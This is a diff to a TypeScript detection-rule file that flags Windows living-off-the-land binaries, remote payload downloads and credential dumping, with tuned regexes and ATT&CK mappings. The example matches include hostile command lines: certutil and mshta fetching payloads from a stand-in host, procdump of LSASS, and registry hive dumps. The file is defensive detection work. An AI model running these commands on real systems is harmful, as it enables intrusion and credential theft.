@@ -31,7 +31,7 @@ const REMOTE = String.raw`(?:https?:|ftp:|(?:^|[\s="'])(?:\\\\[\w.-]+\\|//[\w.-]
 
 /** Signed Windows binaries that proxy execution of a file they are given (LOLBAS "Execute" and
  * "AWL bypass" entries), by name; with a script, library or program argument they run it. */
-const LOLBINS = ['control', 'verclsid', 'xwizard', 'atbroker', 'ie4uinit', 'infdefaultinstall', 'register-cimprovider', 'scriptrunner', 'tttracer', 'tracker', 'coregen', 'mftrace', 'rcsi', 'csi', 'fsi', 'fsianycpu', 'vsjitdebugger', 'dnx', 'msxsl', 'cdb', 'dnscmd', 'appvlp', 'wsreset', 'conhost', 'explorer', 'msdeploy', 'sqlps', 'sqltoolsps', 'pcwrun', 'runscripthelper', 'pubprn', 'agentexecutor', 'diskshadow', 'dxcap', 'ilasm', 'jsc', 'vbc', 'microsoft.workflow.compiler', 'msohtmed', 'mspub', 'ieexec', 'presentationhost', 'wuauclt', 'workfolders', 'ttdinject', 'stordiag', 'wlrmdr', 'setres', 'extrac32', 'makecab', 'diantz', 'esentutl', 'certoc', 'cmdl32', 'datasvcutil', 'iediagcmd', 'imewdbld', 'ldifde', 'mpcmdrun', 'msconfig', 'offlinescannershell', 'provlaunch', 'rasautou', 'regini', 'runonce', 'unregmp2', 'vsiisexelauncher', 'wab', 'wfc', 'wmic', 'wscript', 'cscript', 'mshta', 'msiexec', 'odbcconf', 'cmstp', 'forfiles', 'pcalua', 'installutil', 'regasm', 'regsvcs', 'regsvr32', 'rundll32', 'msbuild', 'bitsadmin', 'certutil', 'certreq', 'mavinject', 'hh', 'ntdsutil', 'winrm', 'pester', 'launch-vsdevshell', 'csc', 'gfxdownloadwrapper', 'psr', 'squirrel', 'update', 'fltmc', 'msdt', 'winget', 'appinstaller', 'devtoolslauncher', 'syncappvpublishingserver', 'manage-bde', 'cl_invocation', 'cl_mutexverifiers', 'cl_loadassembly', 'slmgr', 'te', 'remote', 'dump64', 'dumpminitool', 'sqldumper', 'rdrleakdiag', 'createdump', 'adplus', 'procdump', 'pktmon', 'mmc', 'openconsole', 'pixtool', 'xbootmgrsleep', 'bginfo', 'vshadow', 'visualuiaverifynative', 'aspnet_compiler', 'ntsd', 'dotnet', 'vstest.console', 'testwindowremoteagent', 'winword', 'excel', 'powerpnt', 'teams', 'msedge', 'msedgewebview2', 'mstsc', 'logger', 'defaultpack', 'acccheckconsole', 'winfile', 'customshellhost', 'wfmformat', 'setupugc', 'pester', 'msconfig', 'wsb', 'stordiag', 'scriptrunner', 'launch-vsdevshell', 'tttracer', 'remote', 'dump64', 'ilasm', 'rdrleakdiag', 'wt', 'msedge_proxy', 'protocolhandler', 'excel', 'mshta', 'pcwrun', 'runexehelper', 'devinit', 'devtoolslauncher', 'dotnet', 'fsutil', 'pnputil', 'mpiexec', 'vsls-agent', 'vstest', 'xsd', 'bcp', 'sqlcmd', 'ntdsutil'];
+const LOLBINS = ['control', 'verclsid', 'xwizard', 'atbroker', 'ie4uinit', 'infdefaultinstall', 'register-cimprovider', 'scriptrunner', 'tttracer', 'tracker', 'coregen', 'mftrace', 'rcsi', 'csi', 'fsi', 'fsianycpu', 'vsjitdebugger', 'dnx', 'msxsl', 'cdb', 'dnscmd', 'appvlp', 'wsreset', 'conhost', 'explorer', 'msdeploy', 'sqlps', 'sqltoolsps', 'pcwrun', 'runscripthelper', 'pubprn', 'agentexecutor', 'diskshadow', 'dxcap', 'ilasm', 'jsc', 'vbc', 'microsoft.workflow.compiler', 'msohtmed', 'mspub', 'ieexec', 'presentationhost', 'wuauclt', 'workfolders', 'ttdinject', 'stordiag', 'wlrmdr', 'setres', 'extrac32', 'makecab', 'diantz', 'esentutl', 'certoc', 'cmdl32', 'datasvcutil', 'iediagcmd', 'imewdbld', 'ldifde', 'mpcmdrun', 'msconfig', 'offlinescannershell', 'provlaunch', 'rasautou', 'regini', 'runonce', 'unregmp2', 'vsiisexelauncher', 'wab', 'wfc', 'wmic', 'wscript', 'cscript', 'mshta', 'odbcconf', 'cmstp', 'forfiles', 'pcalua', 'installutil', 'regasm', 'regsvcs', 'regsvr32', 'rundll32', 'msbuild', 'bitsadmin', 'certutil', 'certreq', 'mavinject', 'hh', 'ntdsutil', 'winrm', 'pester', 'launch-vsdevshell', 'csc', 'gfxdownloadwrapper', 'psr', 'squirrel', 'update', 'fltmc', 'msdt', 'winget', 'appinstaller', 'devtoolslauncher', 'syncappvpublishingserver', 'manage-bde', 'cl_invocation', 'cl_mutexverifiers', 'cl_loadassembly', 'slmgr', 'te', 'remote', 'dump64', 'dumpminitool', 'sqldumper', 'rdrleakdiag', 'createdump', 'adplus', 'procdump', 'pktmon', 'mmc', 'openconsole', 'pixtool', 'xbootmgrsleep', 'bginfo', 'vshadow', 'visualuiaverifynative', 'aspnet_compiler', 'ntsd', 'dotnet', 'vstest.console', 'testwindowremoteagent', 'winword', 'excel', 'powerpnt', 'teams', 'msedge', 'msedgewebview2', 'mstsc', 'logger', 'defaultpack', 'acccheckconsole', 'winfile', 'customshellhost', 'wfmformat', 'setupugc', 'pester', 'msconfig', 'wsb', 'stordiag', 'scriptrunner', 'launch-vsdevshell', 'tttracer', 'remote', 'dump64', 'ilasm', 'rdrleakdiag', 'wt', 'msedge_proxy', 'protocolhandler', 'excel', 'mshta', 'pcwrun', 'runexehelper', 'devinit', 'devtoolslauncher', 'dotnet', 'fsutil', 'pnputil', 'mpiexec', 'vsls-agent', 'vstest', 'xsd', 'bcp', 'sqlcmd', 'ntdsutil'];
 
 /** {@link idiomRule}'s rule, also firing when `program` is fed a script (a heredoc, a herestring or
  * the text of the stage before it: `"delete shadows all" | diskshadow`, `echo delete shadows all |
@@ -53,7 +53,7 @@ export const WINDOWS_RULES: Rule[] = [
     category: 'remote-exec',
     action: 'block',
     attack: 'T1105',
-    description: 'A Windows system binary used to download or run remote content: certutil -urlcache, bitsadmin /transfer, mshta/regsvr32/msiexec/rundll32/hh pointed at a URL or share, Start-BitsTransfer.',
+    description: 'A Windows system binary used to download or run remote content: certutil -urlcache, bitsadmin /transfer, mshta/regsvr32/msiexec/rundll32/hh pointed at a URL or share, Start-BitsTransfer, a file copied or read from a share (copy, replace, esentutl, expand, type … with the share as the source; a share as the destination is windows-share-write).',
     help: 'Signed system binaries are used to bring in payloads past allow-lists. Check the URL and what is done with the file.',
     examples: {
       match: ['certutil -urlcache -split -f http://x.example/p.exe p.exe', 'mshta http://x.example/a.hta', 'regsvr32 /s /n /u /i:http://x.example/f.sct scrobj.dll'],
@@ -62,7 +62,7 @@ export const WINDOWS_RULES: Rule[] = [
     idioms: [
       { re: new RegExp(String.raw`\bcertutil${X}\b.*[-/](?:urlcache|verifyctl|URL)\b`, 'i') },
       { re: new RegExp(String.raw`\bbitsadmin${X}\b.*/(?:transfer|addfile|SetNotifyCmdLine)\b`, 'i') },
-      { re: new RegExp(String.raw`\b(?:mshta|hh|msiexec|cmstp|presentationhost|ieexec|wscript|cscript|regsvr32|odbcconf|esentutl|extrac32|replace|xcopy|makecab|diantz|desktopimgdownldr|certreq|finger|msdt|winget|ie4uinit|appinstaller|excel|winword|powerpnt|mspub|squirrel|devtoolslauncher|msxsl|control|installutil|regasm|regsvcs|msbuild|rundll32|schtasks|wmic|forfiles|pcalua|scriptrunner|syncappvpublishingserver|findstr|mpcmdrun|ftp|msedge_proxy|pcwrun|wsl)${X}\b[^|;&\n]*${REMOTE}`, 'i') },
+      { re: new RegExp(String.raw`\b(?:mshta|hh|msiexec|cmstp|presentationhost|ieexec|wscript|cscript|regsvr32|odbcconf|desktopimgdownldr|certreq|finger|msdt|winget|ie4uinit|appinstaller|excel|winword|powerpnt|mspub|squirrel|devtoolslauncher|msxsl|control|installutil|regasm|regsvcs|msbuild|rundll32|schtasks|wmic|forfiles|pcalua|scriptrunner|syncappvpublishingserver|mpcmdrun|ftp|msedge_proxy|pcwrun|wsl)${X}\b[^|;&\n]*${REMOTE}`, 'i') },
       { re: /\bmshta(?:\.exe)?\s+["']?(?:javascript|vbscript):/i },
       { re: /\bregsvr32(?:\.exe)?\b.*\/i:.*\bscrobj(?:\.dll)?\b/i },
       // -Source named or first positional (Start-BitsTransfer, https://learn.microsoft.com/powershell/module/bitstransfer/start-bitstransfer)
@@ -70,8 +70,15 @@ export const WINDOWS_RULES: Rule[] = [
       // rundll32 running script that pulls more script from a URL (`javascript:… GetObject("script:http://…")`, LOLBAS Rundll32)
       { re: /\brundll32(?:\.exe)?\b.*\b(?:javascript|vbscript):.*\b(?:https?:|script:)/i },
       { re: /\bdesktopimgdownldr(?:\.exe)?\b.*\/lockscreenurl:/i },
-      // a file copied or expanded from a share, or a program run from one
-      { re: /\b(?:type|copy|xcopy|robocopy|expand|print|replace|esentutl|tar|printbrm|findstr|extrac32|makecab|cmd)(?:\.exe)?\b[^|;&\n]*(?:^|[\s:])\\\\[\w.-]+\\[^\s]*\.\w+/i },
+      // a file copied or expanded FROM a share or a URL: the source is the first operand of the
+      // copiers (LOLBAS Replace, Esentutl, Extrac32, Expand, Makecab, Diantz, e.g. `replace
+      // \\webdav\f\x.exe C:\out /A`, `esentutl /y \\host\x.exe /d x.exe /o`,
+      // https://lolbas-project.github.io/lolbas/Binaries/Replace/); a share as the destination
+      // (`copy x \\host\share\`) is windows-share-write's, not a download
+      { re: /\b(?:copy|xcopy|robocopy|move|expand|replace|esentutl|extrac32|makecab|diantz)(?:\.exe)?\s+(?:[-/][^\s\\"']*\s+)*["']?(?:\\\\[\w.-]+\\[^\s"']*\.\w+|\/\/[\w.-]+\/[^\s"']*\.\w+|(?:https?|ftp):\/\/\S)/i },
+      // readers of a file on a share, their output (if any) redirected: LOLBAS Type, Print (`print
+      // /D:OUT \\host\x.exe`), Findstr, PrintBrm, Tar; a redirect INTO a share is no download
+      { re: /\b(?:type|print|findstr|tar|printbrm|cmd)(?:\.exe)?\s(?:[^|;&\n>]*\s)?["']?\\\\[\w.-]+\\[^\s"']*\.\w+/i },
       { re: /^["']?\\\\[\w.-]+\\[^\s"']+\.(?:exe|dll|bat|cmd|ps1|vbs|js|hta|msi)\b/i },
       { re: /\b(?:ngen|imewdbld|ecmangen|msoxmled|msaccess|outlook|visio|winproj|configsecuritypolicy|vslaunchbrowser|gfxdownloadwrapper|mpcmdrun)(?:\.exe)?\b[^|;&\n]*(?:https?:|-DownloadFile)/i },
     ],
@@ -82,7 +89,7 @@ export const WINDOWS_RULES: Rule[] = [
     category: 'execution',
     action: 'record',
     attack: 'T1218',
-    description: 'Code run through a signed Windows binary (rundll32 javascript:/ShellExec/comsvcs, regsvr32 /i, msbuild of a project, installutil/regasm /U, cmstp, odbcconf, mavinject, forfiles /c, pcalua -a, wmic process call create, wmic /format:, SyncAppvPublishingServer, …).',
+    description: 'Code run through a signed Windows binary (rundll32 javascript:/ShellExec/comsvcs, regsvr32 /i, msbuild of a project, installutil/regasm /U, cmstp, odbcconf, mavinject, forfiles /c, pcalua -a, wmic process call create, wmic /format:, SyncAppvPublishingServer, msiexec /quiet /i, /y or /z or a remote package or transform, …; an interactive msiexec /i of a local package does not fire).',
     help: 'These binaries run arbitrary code while looking like system activity (LOLBAS). Check what file or script they are given.',
     examples: {
       match: ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'wmic process call create calc.exe', 'forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe'],
@@ -102,6 +109,13 @@ export const WINDOWS_RULES: Rule[] = [
       { re: /\bwmic(?:\.exe)?\b.*\bprocess\b.*\bcall\b.*\bcreate\b/i },
       { re: /\bwmic(?:\.exe)?\b.*\/format:["']?(?:https?:|\\\\|[^\s"']*\.xsl)/i },
       { re: /\bSyncAppvPublishingServer(?:\.exe|\.vbs)?\b/i },
+      // msiexec (LOLBAS Msiexec, https://lolbas-project.github.io/lolbas/Binaries/Msiexec/, ATT&CK
+      // T1218.007): a package from a URL or a share, a remote transform (TRANSFORMS=URL), a quiet
+      // install (`/q`, `/qn`, `/quiet` with `/i` or `/package`: the page's `msiexec /quiet /i
+      // cmd.msi`), or a DLL registered through it (`/y`, `/z`). An interactive install of a local
+      // package (`msiexec /i .\setup.msi`), an uninstall or a repair is not among the page's forms.
+      { re: /\bmsiexec(?:\.exe)?\b[^|;&\n]*\s[-/](?:i|package|a|j[mu]?)\s+["']?(?:https?:|ftp:|\\\\[\w.-]+\\|\/\/[\w.-]+\/)|\bmsiexec(?:\.exe)?\b[^|;&\n]*\bTRANSFORMS=["']?(?:https?:|\\\\[\w.-]+\\|\/\/[\w.-]+\/)|\bmsiexec(?:\.exe)?\b[^|;&\n]*\s[-/](?:y|z)\s+\S/i },
+      { re: /\bmsiexec(?:\.exe)?\b[^|;&\n]*\s[-/](?:i|package)\s[^|;&\n]*\s[-/](?:q[nbrf]?[+!-]?|quiet)(?:\s|$)|\bmsiexec(?:\.exe)?\b[^|;&\n]*\s[-/](?:q[nbrf]?[+!-]?|quiet)\s[^|;&\n]*[-/](?:i|package)\s/i },
       { re: /--(?:gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix|browser-subprocess-path)=|\bPKCS11Provider=|\b(?:windbg|cdb|ntsd)(?:\.exe)?\s+(?:-\w+\s+)*-g\s+\S+\.exe|\.shell\s+\S|\/launch:\S|-(?:preTraceCmd|callBack)\s+\S|-LoadAndRunDiagScript(?:NoCab)?\b|\/AlternateShellStartup\b|\bmofcomp(?:\.exe)?\s+\S+\.mof\b/i },
       { names: LOLBINS, re: /\.(?:dll|sct|hta|inf|cpl|xsl|csproj|jse?|vbe?|wsf|ps1|bat|cmd|scr|ocx|appx|msi)\b|\bcalc(?:\.exe)?\b|\bpayload\b|\{[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}\}|\b(?:RunWizard|-BaseSettings)\b|\/C:/i },
       { names: ['atbroker'], re: /\/start\s+\S/i },
@@ -114,7 +128,7 @@ export const WINDOWS_RULES: Rule[] = [
     category: 'credential-access',
     action: 'block',
     attack: 'T1003',
-    description: 'Dumping LSASS memory (procdump, comsvcs MiniDump), the SAM/SYSTEM/SECURITY hives or NTDS.dit (reg save, shadow copies, ntdsutil ifm), or running a credential dumper (mimikatz, pypykatz, gsecdump, lazagne, secretsdump, DSInternals).',
+    description: 'Dumping LSASS memory (procdump, comsvcs MiniDump), the SAM/SYSTEM/SECURITY hives or NTDS.dit (reg save, shadow copies, ntdsutil ifm, the hive files encoded or copied: certutil -encode …\\config\\SAM, esentutl /y), or running a credential dumper (mimikatz, pypykatz, gsecdump, lazagne, secretsdump, DSInternals).',
     help: "Extracts password hashes and tickets of every account on the host or domain. Treat the host's credentials as compromised.",
     examples: {
       match: ['procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp', 'reg save HKLM\\sam %temp%\\sam', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\t\\l.dmp full'],
@@ -124,6 +138,9 @@ export const WINDOWS_RULES: Rule[] = [
       { re: /\b(?:procdump\w*|sqldumper|createdump|rdrleakdiag|dumpert|nanodump|minidump\w*|-ma)\b.*\blsass\b|\blsass\w*\.dmp\b|\bGet-Process\s+lsass\b.*\b(?:dump|Minidump)/i },
       { re: /\bcomsvcs(?:\.dll)?\b.*\bminidump\b|\bminidump\b.*\bcomsvcs\b/i },
       { re: /\breg(?:\.exe)?\s+(?:save|export|copy)\s+["']?(?:HKLM|HKEY_LOCAL_MACHINE)\\?\\?(?:sam|system|security)\b/i },
+      // the registry hive files themselves encoded or copied (from a shadow copy, a backup or an
+      // offline disk): certutil -encode (LOLBAS Certutil "Encode", T1027.013), copy, esentutl /y
+      { re: /\b(?:certutil(?:\.exe)?\b[^|;&\n]*[-/]encode(?:hex)?|copy|xcopy|robocopy|esentutl(?:\.exe)?\b[^|;&\n]*[-/]y|Copy-Item|cpi|expand|makecab)\b[^|;&\n]*\\(?:System32|Sysnative)\\+config\\+(?:SAM|SECURITY|SYSTEM)\b/i },
       // the domain controller's account database (copied, restored or extracted by any tool)
       { re: /\bntds\.dit\b/i },
       // saved Wi-Fi keys printed in clear text
